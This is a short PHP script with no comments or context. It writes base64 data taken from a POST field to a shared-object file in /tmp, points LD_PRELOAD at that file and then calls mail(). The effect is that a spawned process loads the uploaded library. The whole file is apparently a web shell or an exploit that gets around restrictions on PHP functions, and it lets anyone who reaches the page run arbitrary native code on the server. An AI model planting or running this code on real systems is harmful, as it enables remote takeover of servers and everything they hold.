<?php
$lib = '/tmp/' . md5('x') . '.so';
file_put_contents($lib, base64_decode($_POST['so']));
putenv('LD_PRELOAD=' . $lib);
mail('a@example.invalid', '', '', '');
